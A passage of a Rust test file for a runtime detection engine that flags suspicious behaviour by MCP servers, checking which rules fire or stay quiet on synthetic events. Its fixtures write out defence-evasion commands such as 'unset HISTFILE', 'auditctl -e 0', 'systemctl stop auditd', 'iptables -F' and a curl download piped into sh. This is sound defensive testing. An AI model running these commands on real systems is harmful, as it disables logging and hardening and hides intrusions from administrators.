        ev.fs_path_source = Some(from.into());
        ev.fs_path_target = Some(to.into());
        ev
    };
    let mut chmod = path_ev("fchmodat", "/tmp/x");
    chmod.arg_mode = Some(0o4755);
    let mut chmod_ok = chmod.clone();
    chmod_ok.arg_mode = Some(0o755);
    let mut hidden = exec_ev("agent", &["agent"], "node");
    hidden.exepath = "/home/u/.dbus-update/agent".into();
    let mut hidden_ok = hidden.clone();
    hidden_ok.exepath = "/home/u/.local/bin/agent".into();
    let mut hidden_tmp = hidden.clone();
    hidden_tmp.exepath = "/dev/shm/.x/agent".into();
    let mut npm_bin = hidden.clone();
    npm_bin.exepath = "/home/u/project/node_modules/.bin/tsc".into();
    let mut script = exec_ev("sh", &["sh", "x.sh"], "node");
    script.script_written_by_server = Some(true);
    let mut script_old = script.clone();
    script_old.script_written_by_server = Some(false);
    let mut cat_written = exec_ev("cat", &["cat", "x.sh"], "node");
    cat_written.script_written_by_server = Some(true);
    let mut piped = exec_ev("sh", &["sh"], "sh");
    piped.stdin_writer = Some("curl".into());
    let mut piped_ok = piped.clone();
    piped_ok.stdin_writer = Some("cat".into());
    let mut recon = exec_ev("hostname", &["hostname"], "sh");
    recon.recon_count = Some(3);
    recon.recon_commands = vec!["hostname".into(), "id".into(), "uname".into()];
    let mut recon_more = recon.clone();
    recon_more.recon_count = Some(4);
    let mut ps = open_ev("/proc/4242/environ");
    ps.name = "ps".into();
    ps.exepath = "/usr/bin/ps".into();
    let mut fake_ps = ps.clone();
    fake_ps.exepath = "/tmp/ps".into();
    let cases: Vec<(Event, &str)> = vec![
        (
            open_ev("/home/u/.bash_history"),
            "MCP server read shell history",
        ),
        (
            open_ev("/root/.local/share/fish/fish_history"),
            "MCP server read shell history",
        ),
        (
            write("/etc/ld.so.preload", "O_WRONLY|O_CREAT|O_TRUNC"),
            "MCP server changed the dynamic loader's configuration",
        ),
        (
            rename("/tmp/x.conf", "/etc/ld.so.conf.d/x.conf"),
            "MCP server changed the dynamic loader's configuration",
        ),
        (
            write("/var/log/auth.log", "O_WRONLY|O_TRUNC"),
            "MCP server removed or rewrote logs or shell history",
        ),
        (
            path_ev("unlinkat", "/home/u/.zsh_history"),
            "MCP server removed or rewrote logs or shell history",
        ),
        (
            rename("/var/log/journal/x/system.journal", "/tmp/j"),
            "MCP server removed or rewrote logs or shell history",
        ),
        (
            exec_ev("bash", &["bash", "-c", "unset HISTFILE; id"], "node"),
            "MCP server turned off shell history",
        ),
        (
            exec_ev("sh", &["sh", "-c", "export HISTFILE=/dev/null"], "node"),
            "MCP server turned off shell history",
        ),
        (
            write(
                "/proc/sys/kernel/randomize_va_space",
                "O_WRONLY|O_CREAT|O_TRUNC",
            ),
            "MCP server changed a kernel hardening setting",
        ),
        (
            exec_ev(
                "sysctl",
                &["sysctl", "-w", "kernel.yama.ptrace_scope=0"],
                "sh",
            ),
            "MCP server changed a kernel hardening setting",
        ),
        (
            exec_ev("systemctl", &["systemctl", "stop", "auditd"], "sh"),
            "MCP server stopped or reconfigured logging or auditing",
        ),
        (
            exec_ev("auditctl", &["auditctl", "-e", "0"], "sh"),
            "MCP server stopped or reconfigured logging or auditing",
        ),
        (
            write("/etc/systemd/journald.conf", "O_WRONLY"),
            "MCP server stopped or reconfigured logging or auditing",
        ),
        (
            exec_ev("iptables", &["iptables", "-F"], "sh"),
            "MCP server changed firewall rules",
        ),
        (
            exec_ev("chattr", &["chattr", "+i", "/etc/x"], "sh"),
            "MCP server made a file immutable or append-only",
        ),
        (chmod, "MCP server set the setuid or setgid bit"),
        (hidden, "MCP server ran a binary from a hidden directory"),
        (
            hidden_tmp,
            "MCP server ran a binary from a hidden directory",
        ),
        (script, "MCP server ran a script it had just written"),
        (
            piped,
            "MCP server piped a download or decoded data into a shell",
        ),
        (recon, "MCP server ran system reconnaissance"),
        (fake_ps, "MCP server read another process's environment"),
    ];
    for (ev, rule) in cases {
        assert!(
            hits(&ev).iter().any(|h| h == rule),
            "{rule}: {} {:?} {:?} got {:?}",
            ev.evt_type,
            ev.fd_name,
            ev.argv,
            hits(&ev)
        );
    }
    let quiet: Vec<(Event, &str)> = vec![
        (open_ev("/home/u/.bashrc"), "MCP server read shell history"),
        (
            open_ev("/etc/ld.so.preload"),
            "MCP server changed the dynamic loader's configuration",
        ),
        (
            write("/var/log/app/app.log", "O_WRONLY|O_CREAT|O_APPEND"),
            "MCP server removed or rewrote logs or shell history",
        ),
        (
            exec_ev("bash", &["bash", "-c", "echo $HISTFILE"], "node"),
            "MCP server turned off shell history",
        ),
        (
            open_ev("/proc/sys/kernel/randomize_va_space"),
            "MCP server changed a kernel hardening setting",
        ),
        (
            exec_ev("sysctl", &["sysctl", "kernel.randomize_va_space"], "sh"),
            "MCP server changed a kernel hardening setting",
        ),
        (
            exec_ev("systemctl", &["systemctl", "status", "auditd"], "sh"),
            "MCP server stopped or reconfigured logging or auditing",
        ),
        (
            exec_ev("systemctl", &["systemctl", "stop", "nginx"], "sh"),
            "MCP server stopped or reconfigured logging or auditing",
        ),
        (
            exec_ev("iptables", &["iptables", "-nvL"], "sh"),
            "MCP server changed firewall rules",
        ),
        (
            exec_ev("nft", &["nft", "list", "ruleset"], "sh"),
            "MCP server changed firewall rules",
        ),
        (
            exec_ev("chattr", &["chattr", "+d", "/etc/x"], "sh"),
            "MCP server made a file immutable or append-only",
        ),
        (chmod_ok, "MCP server set the setuid or setgid bit"),
        (hidden_ok, "MCP server ran a binary from a hidden directory"),
        (npm_bin, "MCP server ran a binary from a hidden directory"),
        (script_old, "MCP server ran a script it had just written"),
        (cat_written, "MCP server ran a script it had just written"),
        (
            piped_ok,
            "MCP server piped a download or decoded data into a shell",
        ),
        (recon_more, "MCP server ran system reconnaissance"),
        (ps, "MCP server read another process's environment"),
    ];
    for (ev, rule) in quiet {
        assert!(
            !hits(&ev).iter().any(|h| h == rule),
            "{rule} fired: {} {:?} {:?}",
            ev.evt_type,
            ev.fd_name,
            ev.argv,
        );
    }
}

#[test]
fn open_access_tests_are_decided_by_dispatch_as_they_would_be_evaluated() {
    let mut read = open_ev("/srv/x");
    let mut write = open_ev("/srv/x");
    write.is_open_read = Some(false);
    write.is_open_write = Some(true);
    let mut unknown = open_ev("/srv/x");
    unknown.is_open_read = None;
    unknown.is_open_write = None;
    let cond = "evt.type = openat and evt.is_open_write = true";
    assert!(fires(cond, &write) && !fires(cond, &read) && !fires(cond, &unknown));
    let cond = "evt.type = openat and not evt.is_open_read = true";
    assert!(fires(cond, &write) && !fires(cond, &read) && fires(cond, &unknown));
    let cond = "evt.type = openat and evt.is_open_write exists and fd.name = /srv/x";
    assert!(fires(cond, &write) && fires(cond, &read) && !fires(cond, &unknown));
    let cond = "evt.type = openat and (evt.is_open_read = true or fd.name startswith /srv)";
    assert!(fires(cond, &write) && fires(cond, &read) && fires(cond, &unknown));
    // An event type without such rules is dispatched as before.
    read.evt_type = "connect".into();
    assert!(!fires(
        "evt.type = connect and evt.is_open_read = false",
        &read
    ));
    assert!(fires(
        "evt.type = connect and evt.is_open_read = true",
        &read
    ));
}

#[test]
fn action_key_sets_overrides_and_clears() {
    use crate::enforce::Action;
    let base =
        "- rule: r\n  desc: d\n  condition: evt.type = open\n  output: o\n  priority: warning\n";
    assert_eq!(load(base).rule("r").unwrap().action(), None);
    let killing = format!("{base}  action: kill\n");
    assert_eq!(
        load(&killing).rule("r").unwrap().action(),
        Some(Action::Kill)
    );
    // An override turns enforcement on for a rule defined earlier, and
    // `none` turns it off again; the action is part of the rule's identity.
    let set = load(&format!(
        "{base}- rule: r\n  action: kill-server\n  override:\n    action: replace\n"
    ));
    assert_eq!(set.rule("r").unwrap().action(), Some(Action::KillServer));
    let set = load(&format!(
        "{killing}- rule: r\n  action: none\n  override:\n    action: replace\n"
    ));
    assert_eq!(set.rule("r").unwrap().action(), None);
    let changed = diff(&load(base), &load(&killing));
    assert_eq!(changed.changed, vec!["r".to_string()]);
    // An unknown action is an error at its line and column, naming the choices.
    let (kind, line, col, d) = one_error(&format!("{base}  action: block\n"));
    assert_eq!((kind, line, col), (Kind::Schema, 6, 11));
    assert!(d.render(false).contains("kill, kill-server, deny, or none"));
    // `append` makes no sense for an action.
    let errs = load_err(&format!(
        "{base}- rule: r\n  action: kill\n  override:\n    action: append\n"
    ));
    assert!(
        errs[0]
            .message
            .contains("`action` cannot be overridden with append"),
        "{}",
        errs[0].message
    );
}
